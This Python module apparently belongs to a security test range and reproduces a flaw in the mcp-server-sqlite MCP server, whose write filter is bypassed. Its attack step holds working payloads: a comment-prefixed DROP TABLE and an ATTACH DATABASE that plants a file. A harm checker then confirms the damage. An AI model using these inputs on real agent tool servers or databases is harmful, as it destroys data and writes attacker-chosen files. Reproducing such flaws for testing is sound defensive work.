"""The SQLite server of the reference servers, its last release, drops a table and writes a file of its caller's choice.

`write_query` refuses only what begins with SELECT, so a comment before DROP, or ATTACH, passes.
"""

from __future__ import annotations

import sqlite3
from contextlib import closing
from typing import TYPE_CHECKING, Final

from sekisho.model.range_ids import RangeId
from sekisho.range.calls import read_query, write_query
from sekisho.range.incident import Call, Harm, Incident, Layer, Server
from sekisho.range.packages import Index, Package, command

if TYPE_CHECKING:
    from pathlib import Path

    from sekisho.range.table import Table

__all__ = ["INCIDENT"]

_PACKAGE: Final = Package(
    index=Index.PYPI,
    name="mcp-server-sqlite",
    version="2025.4.25",
    program="mcp-server-sqlite",
    beside=("mcp<2",),
)
_FILE: Final = "shop.db"
_TABLES: Final = "SELECT count(*) FROM sqlite_master WHERE name = 'users'"


def _prepare(folder: Path) -> dict[str, Server]:
    with closing(sqlite3.connect(folder / _FILE)) as database:
        database.execute("CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT)")
        database.execute("INSERT INTO users (name) VALUES ('Alice'), ('Bob')")
        database.commit()
    return {"sqlite": Server(command=command(_PACKAGE, "--db-path", str(folder / _FILE)), cwd=folder)}


def _attack(table: Table, folder: Path) -> None:
    table.call(write_query("/**/DROP TABLE users"))
    table.call(write_query(f"ATTACH DATABASE '{folder / 'planted.db'}' AS planted"))


def _harm(_table: Table, folder: Path) -> Harm | None:
    with closing(sqlite3.connect(folder / _FILE)) as database:
        (left,) = database.execute(_TABLES).fetchone()
    return None if left and not (folder / "planted.db").exists() else Harm(cell=RangeId.HARM_DROPPED)


INCIDENT: Final = Incident(
    id="sqlite-release",
    title=RangeId.TITLE_SQLITE_RELEASE,
    page=21,
    row="T2.7",
    layer=Layer.SQL,
    sources=("Trend Micro, why a classic MCP server vulnerability can undermine your AI agent, June 2025",),
    prepare=_prepare,
    honest=(
        read_query("SELECT name FROM users ORDER BY id LIMIT 5"),
        Call(server="sqlite", tool="list_tables"),
        write_query("INSERT INTO users (name) VALUES ('it''s -- not; a DROP TABLE comment')"),
        Call(server="sqlite", tool="describe_table", arguments={"table_name": "users"}),
    ),
    attack=_attack,
    harm=_harm,
    package=_PACKAGE,
)
